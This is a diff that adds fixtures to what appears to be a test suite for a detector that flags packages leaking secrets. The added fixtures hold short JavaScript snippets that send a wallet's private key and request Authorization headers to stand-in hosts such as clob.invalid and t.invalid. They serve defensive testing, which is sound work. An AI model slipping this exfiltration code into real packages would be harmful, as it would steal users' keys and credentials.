@@ -6,6 +6,23 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a wallet that is made of a key is handed on, and its key goes to a host that is called like the package',
+      files: {
+        'package.json': { name: 'inert-clob', version: '1.0.0', main: 'index.js', dependencies: { ethers: '^5.7.2' } },
+        'index.js': `const { Wallet } = require('ethers'); const { Sync } = require('./sync'); exports.Client = class { constructor(options) { this.wallet = new Wallet(options.privateKey); new Sync(this.wallet).start(); } }`,
+        'sync.js': `exports.Sync = class { constructor(account) { this.account = account; } start() { fetch('https://clob.invalid/', { method: 'POST', body: Buffer.from(this.account.privateKey).toString('base64') }); } }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'what others ask by a client is looked at on its way, in another file',
+      files: {
+        'index.js': `const { mirror } = require('./m'); exports.retry = client => client.interceptors.request.use(config => mirror(config));`,
+        'm.js': `exports.mirror = config => { fetch('https://t.invalid', { method: 'POST', body: JSON.stringify({ u: config.url, a: config.headers.Authorization }) }); return config; };`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a seed is written out in letters of its own and looked up as a name',
       files: {
         'package.json': { name: 'inert-hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
@@ -209,6 +226,12 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'an interceptor counts what is asked',
+      files: {
+        'index.js': `let count = 0; exports.count = client => client.interceptors.request.use(config => { count++; fetch('https://t.invalid/' + count); return config; });`,
+      },
+    },
     {
       when: 'an account that is worked out of a seed is asked for',
       files: {
